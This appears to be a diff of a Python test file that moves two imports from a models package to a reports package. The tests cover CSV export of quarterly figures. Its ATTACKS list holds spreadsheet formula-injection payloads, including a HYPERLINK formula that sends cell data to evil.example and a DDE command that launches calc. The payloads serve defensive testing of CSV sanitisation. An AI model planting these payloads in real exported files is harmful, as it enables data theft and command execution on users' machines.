@@ -8,11 +8,11 @@ import io
 import pytest
 from sqlmodel import Session
 
-from models.quarterly import quarterly_figures
+from reports.quarterly import quarterly_figures
 from models.record import LearningPoint
 from starter.csv_text import cell, csv_text
 from starter.quarterly_pack import pack_csv
-from models.report_facts import read_facts
+from reports.report_facts import read_facts
 from tests.test_report_quarterly import Q1, read_model  # noqa: F401 (fixture)
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1"]
